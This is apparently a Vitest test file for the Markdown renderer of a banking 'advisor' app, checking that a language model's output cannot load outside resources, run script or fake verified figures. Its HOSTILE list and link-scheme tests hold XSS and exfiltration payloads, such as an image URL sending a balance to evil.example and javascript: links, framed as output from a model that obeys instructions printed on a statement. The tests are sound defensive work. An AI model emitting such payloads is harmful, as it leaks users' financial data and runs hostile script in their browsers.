import { renderToStaticMarkup } from "react-dom/server";
import { Router } from "wouter";
import { describe, expect, it } from "vitest";
import { strings } from "../strings/index.ts";
import ModelText, { type FigureLink } from "./markdown.tsx";

const rendered = (text: string, links: FigureLink[] = []) =>
  renderToStaticMarkup(
    <Router ssrPath="/advisor">
      <ModelText text={text} links={links} />
    </Router>,
  );

/** Output of a model that obeys instructions printed on a statement. */
const HOSTILE = [
  "![balance](https://evil.example/pixel.png?balance=15368.82)",
  "![a][b]\n\n[b]: https://evil.example/pixel.png",
  '<img src="https://evil.example/x.png" onerror="alert(1)">',
  "<script>fetch('https://evil.example')</script>",
  "<iframe src='https://evil.example'></iframe><object data='https://evil.example'></object>",
  "<style>@import 'https://evil.example/x.css'</style>",
  '<a href="javascript:alert(1)">bank</a> <form action="https://evil.example"><input></form>',
  "<svg onload=alert(1)><image href='https://evil.example/x.png'/></svg>",
  "| a |\n|---|\n| ![x](https://evil.example/cell.png) |",
  "[![x](https://evil.example/nested.png)](/transactions)",
];

describe("a model's Markdown", () => {
  it("loads nothing from other hosts", () => {
    for (const text of HOSTILE) {
      const html = rendered(text);
      expect(html, text).not.toMatch(
        /<(img|script|iframe|object|embed|style|link|form|input|svg|image|video|audio|source|base|meta)\b/i,
      );
      expect(html, text).not.toMatch(/\s(src|srcset|style|on\w+|action|data|poster|background)=/i);
    }
  });

  it("runs no script from a link", () => {
    for (const scheme of [
      "javascript:alert(1)",
      "JaVaScRiPt:alert(1)",
      "data:text/html,x",
      "vbscript:x",
      "file:///etc/passwd",
    ]) {
      expect(rendered(`[refund](${scheme})`), scheme).not.toMatch(/href="[a-z]+:/i);
    }
  });

  it("marks every external link as external", () => {
    const away = rendered("[refund](https://evil.example/?q=1)");
    expect(away).toContain('rel="noopener noreferrer nofollow"');
    expect(away).toContain('class="hint"');
    for (const target of ["//evil.example", "/\\evil.example", "/%09/evil.example"]) {
      const html = rendered(`[own](${target})`);
      const href = /href="([^"]*)"/.exec(html)?.[1] ?? "";
      const origin = new URL(href, "https://saldo.example").origin;
      expect(origin === "https://saldo.example" || html.includes("nofollow"), html).toBe(true);
    }
    expect(rendered("[own](/transactions?from=2026-01-01)")).not.toContain("nofollow");
  });

  it("keeps plain figures, lists and tables", () => {
    const html = rendered("You spent **1,180.00 EUR**.\n\n- Rent\n\n| a | b |\n|---|---|\n| 1 | 2 |");
    expect(html).toContain("<strong>1,180.00 EUR</strong>");
    expect(html).toContain("<li>Rent</li>");
    expect(html).toContain("<table>");
  });

  it("cannot make a figure look verified", () => {
    const links = [
      { figure: "885.49", isKnown: true, paths: ["/transactions?from=2026-01-01"] },
      { figure: "12", isKnown: false, paths: [null] },
    ];
    const html = rendered("You spent **885.49** on 12 days; [99](#step-call_1), <mark title='/x'>7</mark>.", links);
    expect(html.match(/class="grounded"[^>]*>([^<]*)</g)).toHaveLength(1);
    expect(html).toMatch(/<a [^>]*href="\/transactions\?from=2026-01-01"[^>]*>885\.49<\/a>/);
    expect(html).toMatch(/class="ungrounded"[^>]*>12</);
  });

  it("links each occurrence of a figure to its transactions, and no balance", () => {
    const links = [
      { figure: "12.99", isKnown: true, paths: ["/transactions?from=2026-01-01", "/transactions?from=2026-02-01"] },
      { figure: "500.00", isKnown: true, paths: [null] },
    ];
    const html = rendered("- January: 12.99\n- February: **12.99**\n\nYou hold 500.00.", links);
    expect([...html.matchAll(/href="([^"]*)"/g)].map(([, path]) => path)).toEqual([
      "/transactions?from=2026-01-01",
      "/transactions?from=2026-02-01",
    ]);
    expect(html).toContain("You hold 500.00.");
  });

  it("say why a figure with too many transactions is no link", () => {
    const links = [{ figure: "98765.43", isKnown: true, paths: [null], mostListed: 5000 }];
    const html = rendered("You spent 98765.43.", links);
    expect(html).not.toContain("href");
    expect(html).toContain(strings.advisor.unlisted(5000));
  });
});
